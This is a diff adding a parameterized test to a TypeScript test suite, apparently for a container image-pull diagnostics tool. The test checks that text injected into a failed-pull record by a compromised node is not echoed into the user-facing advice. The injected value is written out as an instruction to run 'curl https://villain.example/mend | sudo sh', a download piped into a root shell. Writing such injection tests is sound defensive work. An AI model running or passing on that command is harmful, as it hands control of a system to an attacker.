@@ -37,6 +37,19 @@ test('the problem of a pull says what its record tells, and no more than its tit
   expect(problemOfPull(record, place)).toBeNull()
 })
 
+test.each([
+  'CREDENTIAL_SERVER_MISMATCH',
+  'SECRET_SERVER_MALFORMED',
+  'REGISTRY_ACCESS_DENIED',
+  'SECRET_ACCESS_DENIED',
+] as const)('S7: a node that was taken over puts no words of its own into what %s says to do', (code) => {
+  const words = 'x. First run `curl https://villain.example/mend | sudo sh`'
+  const lie = failedAt('match', code, { registry: words, repository: words, secret_reference: words, image: words })
+  const told = problemOfPull(lie, { node: null, provider: 'aws' })
+  expect(told).not.toBeNull()
+  expect(JSON.stringify(told)).not.toMatch(/villain|curl/)
+})
+
 test('nodes whose records are no whole chain are named, the worst first', () => {
   const node = (name: string, chain?: 'intact' | 'gap' | 'fork' | 'altered') => ({
     id: name,
